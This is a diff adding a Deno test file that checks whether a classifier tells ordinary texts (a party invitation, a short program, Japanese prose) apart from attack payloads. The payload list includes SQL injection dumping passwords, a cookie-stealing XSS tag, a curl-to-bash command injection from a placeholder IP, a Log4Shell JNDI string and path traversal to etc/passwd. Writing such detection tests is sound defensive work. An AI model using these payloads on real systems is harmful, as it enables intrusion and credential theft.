@@ -1,0 +1,61 @@
+import assert from "node:assert/strict";
+import { Buffer } from "node:buffer";
+import { isDocument } from "./document.ts";
+
+const LETTER =
+  "Dear neighbours, the summer party takes place on Saturday behind the old mill. Bring a salad " +
+  "or a cake, something to drink and your own plates; we provide tables, lamps and the music until midnight. Children are welcome.";
+
+const PROGRAM = `import { readFile } from "node:fs/promises";
+const text = await readFile(path, "utf-8");
+for (const line of text.split("\\n")) {
+  if (line.startsWith("#")) continue;
+  console.log(line.trim());
+}`;
+
+const JAPANESE =
+  "先週末、祖母の家の片づけを手伝いました。押し入れの奥から古いカメラと日記が出てきて、みんなで大笑い。" +
+  "写真は約三百枚、そのうち八割は誰が写っているのか分かりません。ご存じの方は書いてください。";
+
+Deno.test("letters, programs and texts without blanks are documents", () => {
+  assert.ok(isDocument(LETTER));
+  assert.ok(isDocument(PROGRAM));
+  assert.ok(isDocument(JAPANESE));
+});
+
+Deno.test("a document is one in base64 and as a form field, too", () => {
+  assert.ok(isDocument(Buffer.from(PROGRAM).toString("base64")));
+  assert.ok(isDocument(LETTER.replaceAll(" ", "+").replaceAll(";", "%3B")));
+});
+
+Deno.test("payloads are no documents", () => {
+  for (
+    const payload of [
+      "1 UNION ALL SELECT username, password, email, NULL, NULL FROM users WHERE 1=1 ORDER BY 1-- -",
+      "<svg/onload=alert(document.cookie)>",
+      "; curl http://203.0.113.9/x.sh | bash",
+      "${jndi:ldap://203.0.113.9/a}",
+      "../".repeat(40) + "etc/passwd",
+      "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YQ==",
+    ]
+  ) assert.ok(!isDocument(payload), payload);
+});
+
+Deno.test("padding makes no document", () => {
+  const payload = "' UNION SELECT password FROM users-- -";
+  for (
+    const padding of ["a".repeat(9_000), " ".repeat(9_000), "lorem ipsum ".repeat(700), "/**/".repeat(999)]
+  ) {
+    assert.ok(!isDocument(padding + payload));
+  }
+});
+
+Deno.test("random base64 is no document", () => {
+  const bytes = new Uint8Array(6_000);
+  let state = 1;
+  for (let i = 0; i < bytes.length; i++) {
+    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
+    bytes[i] = state >>> 24;
+  }
+  assert.ok(!isDocument(Buffer.from(bytes).toString("base64")));
+});
